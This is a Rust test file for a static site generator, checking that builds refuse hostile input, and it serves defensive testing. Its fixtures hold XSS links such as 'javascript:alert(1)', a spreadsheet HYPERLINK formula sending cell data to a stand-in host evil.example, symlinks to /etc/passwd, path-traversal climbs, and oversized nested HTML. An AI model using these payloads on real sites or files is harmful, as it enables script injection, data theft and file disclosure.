//! Hostile or careless input (issue 20): what a build refuses, and how it says so. Each
//! test builds a copy of the `basic` fixture with one bad file added, runs the real
//! binary, and checks what an editor reads (file, line, what is wrong) and what a reader
//! would get (nothing unsafe published).

mod common;

use common::Site;

const CASE_HEAD: &str = "---\ntitle: 测试案例\ndate: 2024-05-01\n";

/// A case file with `front` added to a minimal front matter, and `body`.
fn case(front: &str, body: &str) -> String {
    format!("{CASE_HEAD}{front}---\n{body}")
}

/// `check` and `build` both fail, and both name every `expected` piece.
fn refused(site: &Site, expected: &[&str]) {
    let check = site.run(&["check"]);
    assert_eq!(check.code(), Some(1), "check:\n{}", check.stdout());
    let build = site.build();
    assert!(!build.ok(), "the build should fail:\n{}", build.stdout());
    common::assert_both_say(&check, &build, expected);
}

// Item 5: links that would run a script.

#[test]
fn script_links_in_bodies_are_errors_with_file_and_line() {
    let site = Site::from_fixture("basic");
    site.write(
        "content/cases/sichuan/xss.md",
        &case(
            "",
            "正文\n\n[点我](javascript:alert(1))\n\n[大写](JavaScript:alert(2))\n\n[实体](&#106;avascript:alert(3))\n\n![图](data:image/svg+xml;base64,PHN2Zz4=)\n\n[好](https://example.org/)\n",
        ),
    );
    refused(
        &site,
        &[
            "content/cases/sichuan/xss.md:7: the link \"javascript:alert(1)\" starts with `javascript:`",
            "content/cases/sichuan/xss.md:9: the link \"JavaScript:alert(2)\"",
            "content/cases/sichuan/xss.md:11: the link \"javascript:alert(3)\"",
            "content/cases/sichuan/xss.md:13: the link \"data:image/svg+xml",
        ],
    );
}

#[test]
fn script_websites_in_data_are_errors_with_file_and_line() {
    let site = Site::from_fixture("basic");
    site.write(
        "data/organizations.yaml",
        "乐山初心社会工作服务中心:\n  founded: 2018\n  website: \"javascript:alert(1)\"\n厦门市湖里区开心社工服务中心:\n  website: \" VBScript:msgbox(1)\"\n",
    );
    refused(
        &site,
        &[
            "data/organizations.yaml:3: field `website`: the link \"javascript:alert(1)\"",
            "data/organizations.yaml:5: field `website`",
            "`vbscript:`",
        ],
    );
}

// Item 6: formulas in the open data.

#[test]
fn formulas_reach_the_csv_as_text_and_the_json_unchanged() {
    let site = Site::from_fixture("basic");
    let title = "=HYPERLINK(\"http://evil.example/?x=\"&A3,\"详情\")";
    site.write(
        "content/cases/sichuan/formula.md",
        &format!(
            "---\ntitle: '{title}'\ndate: 2024-05-01\nslug: formula\nsummary: \"@SUM(A1:A9)\"\ntags: [\"+1\", \"-2+3\"]\n---\n正文\n"
        ),
    );
    site.build().assert_ok();
    let csv = site.read("data/cases.csv");
    let row = csv
        .lines()
        .find(|l| l.starts_with("formula,"))
        .expect("the case's row");
    assert!(row.contains("\"'=HYPERLINK("), "{row}");
    assert!(row.contains(",'@SUM(A1:A9),"), "{row}");
    assert!(row.contains(",'+1|-2+3,"), "{row}");
    let json = site.read("data/cases.json");
    assert!(json.contains("\"title\": \"=HYPERLINK("), "{json}");
    assert!(json.contains("\"summary\": \"@SUM(A1:A9)\""), "{json}");
}

// Item 9: encoding corners.

#[test]
fn a_config_saved_with_a_byte_order_mark_works() {
    let site = Site::from_fixture("basic");
    let config = std::fs::read_to_string(site.root().join("casebook.yaml")).expect("config");
    site.write("casebook.yaml", &format!("\u{feff}{config}"));
    site.build().assert_ok();
    assert!(site.read("index.html").contains("测试汇编"));
}

#[test]
fn a_line_separator_in_a_title_does_not_shift_reported_lines() {
    let site = Site::from_fixture("basic");
    site.write(
        "content/cases/sichuan/ls.md",
        "---\ntitle: \"金山\u{2028}社工站\"\ndate: 2024-05-01\ntags: [a, b\nsummary: x\n---\n正文\n",
    );
    let run = site.run(&["check"]);
    assert_eq!(run.code(), Some(1), "{}", run.stdout());
    // The YAML breaks where the list is not closed, at the line after it (line 5 of the
    // file) as the editor counts, not line 6 as YAML counts when U+2028 is a line break.
    assert!(
        run.stdout().contains("content/cases/sichuan/ls.md:5:"),
        "{}",
        run.stdout()
    );
}

#[test]
fn a_broken_config_does_not_hide_content_errors() {
    let site = Site::from_fixture("basic");
    site.write("casebook.yaml", "title: 测试汇编\npaginate: [\n");
    site.write("content/cases/sichuan/bad2.md", "---\ntitle: 无日期\n---\n");
    refused(
        &site,
        &[
            "casebook.yaml:",
            "content/cases/sichuan/bad2.md:",
            "`date` is missing",
        ],
    );
}

// Item 8: what `check` accepts, `build` can write.

#[test]
fn slugs_the_build_cannot_write_are_refused_by_check_too() {
    let site = Site::from_fixture("basic");
    let long = "长".repeat(300);
    site.write(
        "content/cases/sichuan/nul.md",
        &case("slug: \"a\\0b\"\n", ""),
    );
    site.write(
        "content/cases/sichuan/long.md",
        &case(&format!("slug: {long}\n"), ""),
    );
    site.write(
        "content/cases/sichuan/index.md",
        &case("slug: index.html\n", ""),
    );
    site.write("content/cases/sichuan/con.md", &case("slug: CON\n", ""));
    let deep: Vec<String> = (0..800).map(|i| format!("地{i}")).collect();
    site.write(
        "content/cases/sichuan/deep.md",
        &case(&format!("region: [{}]\n", deep.join(", ")), ""),
    );
    site.write("content/pages/bad.md", "---\ntitle: 页\nslug: a/b\n---\n");
    site.write("content/pages/关于 我们.md", "---\ntitle: 关于\n---\n");
    refused(
        &site,
        &[
            "content/cases/sichuan/nul.md:4: field `slug`: \"a\\0b\" cannot be used in a web address: it contains an invisible control character (U+0000)",
            "content/cases/sichuan/long.md:4: field `slug`:",
            "longer than 64 characters",
            "content/cases/sichuan/index.md:4: field `slug`: \"index.html\" cannot be used in a web address: it contains \".\"",
            "content/cases/sichuan/con.md:4: field `slug`:",
            "content/cases/sichuan/deep.md:4: field `region`: the region has 800 levels; casebook takes at most 8",
            "content/pages/bad.md:3: field `slug`:",
            "\"关于 我们\" (the file's name, used as the slug when there is no `slug:`) cannot be used in a web address",
        ],
    );
    for run in [site.run(&["check"]), site.build()] {
        let all = run.stdout() + &run.stderr();
        assert!(!all.contains("os error"), "{all}");
    }
}

#[test]
fn collection_file_names_the_build_cannot_write_are_refused() {
    let site = Site::from_fixture("collections-basic");
    let collection = std::fs::read_dir(site.root().join("content/collections"))
        .expect("collections")
        .filter_map(Result::ok)
        .map(|e| e.path())
        .find(|p| p.extension().is_some_and(|x| x == "md"))
        .expect("a collection");
    let text = std::fs::read_to_string(&collection).expect("collection text");
    site.write("content/collections/index.html.md", &text);
    site.write("content/collections/Youxiu.md", &text);
    site.write("content/collections/youxiu.md", &text);
    refused(
        &site,
        &[
            "content/collections/index.html.md:1: the file's name \"index.html\" is the collection's web address, and cannot be one: it contains \".\"",
            "content/collections/youxiu.md:1: the file's name and the name of content/collections/Youxiu.md differ only",
        ],
    );
}

#[test]
fn slugs_that_differ_only_in_case_width_or_accents_collide() {
    let site = Site::from_fixture("basic");
    site.write("content/cases/sichuan/a1.md", &case("slug: Jinshan\n", ""));
    site.write("content/cases/sichuan/a2.md", &case("slug: jinshan\n", ""));
    site.write(
        "content/cases/sichuan/b1.md",
        &case("slug: ｋａｉｘｉｎ\n", ""),
    );
    site.write("content/cases/sichuan/b2.md", &case("slug: kaixin\n", ""));
    site.write(
        "content/cases/sichuan/c1.md",
        &case("slug: caf\u{e9}\n", ""),
    );
    site.write(
        "content/cases/sichuan/c2.md",
        &case("slug: cafe\u{301}\n", ""),
    );
    refused(
        &site,
        &[
            "content/cases/sichuan/a2.md:4: field `slug`: the slug \"jinshan\" and the slug \"Jinshan\" of content/cases/sichuan/a1.md differ only",
            "content/cases/sichuan/b2.md:4: field `slug`: the slug \"kaixin\" and the slug \"ｋａｉｘｉｎ\" of content/cases/sichuan/b1.md",
            "content/cases/sichuan/c2.md:4: field `slug`:",
            "content/cases/sichuan/c1.md",
        ],
    );
}

#[test]
fn terms_too_long_for_a_file_name_get_a_short_stable_address() {
    let site = Site::from_fixture("basic");
    let tag = "很长的标签名称".repeat(15);
    site.write(
        "content/cases/sichuan/tag.md",
        &case(&format!("slug: long-tag\ntags: [{tag}, index.html]\n"), ""),
    );
    site.build().assert_ok();
    let page = site.read("cases/long-tag/index.html");
    let href = |start: &str| {
        let at = page
            .find(start)
            .unwrap_or_else(|| panic!("{start} in {page}"));
        page[at..].split('"').next().unwrap_or("").to_string()
    };
    let long = href("../../tags/很长的标签名称");
    assert!(long.len() < 160, "{long}");
    assert!(site.exists(&format!("{}index.html", &long["../../".len()..])));
    site.build().assert_ok();
    assert_eq!(
        href("../../tags/很长的标签名称"),
        long,
        "the same address every build"
    );
    assert!(site.exists("tags/index.html"));
}

// Item 2: links out of the site's folder.

#[cfg(unix)]
#[test]
fn links_out_of_the_site_are_errors_and_nothing_of_theirs_is_published() {
    use std::os::unix::fs::symlink;
    let outside = tempfile::tempdir().expect("temp dir");
    std::fs::write(outside.path().join("secret.txt"), "SECRET-OUTSIDE").expect("write");
    std::fs::write(outside.path().join("page.html"), "SECRET-TEMPLATE").expect("write");
    let site = Site::from_fixture("basic");
    let root = site.root();
    site.write(
        "content/cases/sichuan/pics.md",
        &case(
            "slug: pics\n",
            "正文\n\n![密码](pw.png)\n\n[文件夹](linked/secret.txt)\n\n![内部](inside.png)\n",
        ),
    );
    // A real image inside the site, for the link that stays inside.
    image::RgbImage::from_pixel(8, 6, image::Rgb([30, 90, 160]))
        .save(root.join("static/images/logo.png"))
        .expect("write a PNG");
    symlink("/etc/passwd", root.join("content/cases/sichuan/pw.png")).expect("link");
    symlink(outside.path(), root.join("content/cases/sichuan/linked")).expect("link");
    symlink(
        root.join("static/images/logo.png"),
        root.join("content/cases/sichuan/inside.png"),
    )
    .expect("link");
    symlink(outside.path(), root.join("static/linked")).expect("link");
    symlink("/etc/passwd", root.join("static/passwd.txt")).expect("link");
    std::fs::create_dir_all(root.join("templates")).expect("mkdir");
    symlink(
        outside.path().join("page.html"),
        root.join("templates/page.html"),
    )
    .expect("link");
    refused(
        &site,
        &[
            "content/cases/sichuan/pics.md:8: the image \"pw.png\" leads to /etc/passwd, outside the site's folder",
            "is a link to /etc/passwd, outside the site's folder",
            "content/cases/sichuan/pics.md:10: the link \"linked/secret.txt\"",
            "static/linked: is a link to",
            "static/passwd.txt: is a link to /etc/passwd",
        ],
    );
    // Without the links in the case and static/, the template link is what stops the build.
    for link in [
        "content/cases/sichuan/pw.png",
        "content/cases/sichuan/linked",
        "static/linked",
        "static/passwd.txt",
    ] {
        std::fs::remove_file(root.join(link)).expect("remove link");
    }
    site.write(
        "content/cases/sichuan/pics.md",
        &case("slug: pics\n", "正文\n\n![内部](inside.png)\n"),
    );
    refused(&site, &["templates/page.html: is a link to"]);
    std::fs::remove_file(root.join("templates/page.html")).expect("remove link");
    // Links that stay inside the site work.
    symlink(root.join("static/images"), root.join("static/pictures")).expect("link");
    site.build().assert_ok();
    let photos = std::fs::read_dir(site.public().join("photos")).expect("photos/");
    assert!(
        photos
            .filter_map(|e| e.ok())
            .any(|e| e.file_name().to_string_lossy().starts_with("inside-")),
        "the linked photo inside the site is published (resized) under photos/"
    );
    assert!(site.exists("pictures/logo.png"));
    for entry in walkdir::WalkDir::new(site.public()) {
        let entry = entry.expect("walk output");
        if entry.file_type().is_file() {
            let bytes = std::fs::read(entry.path()).expect("read output");
            let text = String::from_utf8_lossy(&bytes);
            assert!(!text.contains("SECRET-"), "{}", entry.path().display());
            assert!(!text.contains("root:x:0:0"), "{}", entry.path().display());
        }
    }
}

#[cfg(unix)]
#[test]
fn a_case_or_data_file_linked_from_outside_is_refused() {
    use std::os::unix::fs::symlink;
    let outside = tempfile::tempdir().expect("temp dir");
    std::fs::write(
        outside.path().join("case.md"),
        case("slug: elsewhere\n", "SECRET-CASE\n"),
    )
    .expect("write");
    std::fs::write(
        outside.path().join("orgs.yaml"),
        "甲: {description: SECRET-DATA}\n",
    )
    .expect("write");
    let site = Site::from_fixture("basic");
    let root = site.root();
    symlink(
        outside.path().join("case.md"),
        root.join("content/cases/elsewhere.md"),
    )
    .expect("link");
    std::fs::remove_file(root.join("data/organizations.yaml")).expect("remove");
    symlink(
        outside.path().join("orgs.yaml"),
        root.join("data/organizations.yaml"),
    )
    .expect("link");
    refused(
        &site,
        &[
            "content/cases/elsewhere.md: is a link to",
            "data/organizations.yaml: is a link to",
        ],
    );
}

// Item 7: inputs that would take the sanitiser quadratic time.

#[test]
fn deeply_nested_html_and_huge_tables_are_refused_quickly() {
    let site = Site::from_fixture("basic");
    let divs = format!("{}x{}", "<div>".repeat(25_000), "</div>".repeat(25_000));
    site.write(
        "content/cases/sichuan/divs.md",
        &case("slug: divs\n", &format!("正文\n\n{divs}\n")),
    );
    site.write(
        "content/cases/sichuan/quotes.md",
        &case(
            "slug: quotes\n",
            &format!("{} 引用 <b>粗</b>\n", ">".repeat(20_000)),
        ),
    );
    let row = |cell: &str| format!("|{}|\n", vec![cell; 300].join("|"));
    let table = format!("{}{}{}", row("列"), row("-"), row("1").repeat(300));
    site.write(
        "content/cases/sichuan/table.md",
        &case("slug: table\n", &format!("表格\n\n{table}")),
    );
    let huge = format!("{}{}{}", row("列"), row("-"), row("1").repeat(2_000));
    site.write(
        "content/cases/sichuan/huge.md",
        &case("slug: huge\n", &format!("表格\n\n{huge}")),
    );
    let start = std::time::Instant::now();
    refused(
        &site,
        &[
            "content/cases/sichuan/huge.md:8: with this table",
            "content/cases/sichuan/divs.md:8: the HTML here nests 25000 elements inside one another; casebook accepts at most 128",
            "content/cases/sichuan/quotes.md:6: the HTML here nests",
            "content/cases/sichuan/table.md:8: with this table, the file's tables have more than 50000 cells",
        ],
    );
    assert!(
        start.elapsed() < std::time::Duration::from_secs(60),
        "{:?}",
        start.elapsed()
    );
}

#[test]
fn a_photo_path_that_climbs_out_of_the_site_is_refused() {
    let site = Site::from_fixture("basic");
    let outside = tempfile::tempdir().expect("temp dir");
    image::RgbImage::from_pixel(8, 6, image::Rgb([200, 40, 40]))
        .save(outside.path().join("private.png"))
        .expect("write a PNG");
    // Enough `..` to reach / from any folder the test site sits in.
    let climb = format!(
        "{}{}/private.png",
        "../".repeat(24).trim_end_matches('/'),
        outside.path().display()
    );
    site.write(
        "content/cases/sichuan/climb.md",
        &case(
            &format!("slug: climb\ncover: \"{climb}\"\ncover_alt: 照片\n"),
            "正文\n",
        ),
    );
    refused(
        &site,
        &[
            "content/cases/sichuan/climb.md:5",
            "outside the site's folder",
        ],
    );
}

/// `--root mysite`, relative to where casebook runs, is confined as well as an absolute one.
#[cfg(unix)]
#[test]
fn links_out_of_a_site_named_by_a_relative_root_are_refused() {
    use std::os::unix::fs::symlink;
    let site = Site::from_fixture("basic");
    symlink("/etc/passwd", site.root().join("static/passwd.txt")).expect("link");
    let (Some(parent), Some(name)) = (site.root().parent(), site.root().file_name()) else {
        panic!("the test site has a parent folder");
    };
    let run = common::Run(
        std::process::Command::new(env!("CARGO_BIN_EXE_casebook"))
            .current_dir(parent)
            .arg("build")
            .arg("--root")
            .arg(name)
            .output()
            .expect("run casebook"),
    );
    assert!(!run.ok(), "the build should fail:\n{}", run.stderr());
    assert!(
        run.stderr()
            .contains("static/passwd.txt: is a link to /etc/passwd"),
        "{}",
        run.stderr()
    );
    assert!(
        !site.public().join("passwd.txt").exists(),
        "nothing of the link is published"
    );
}
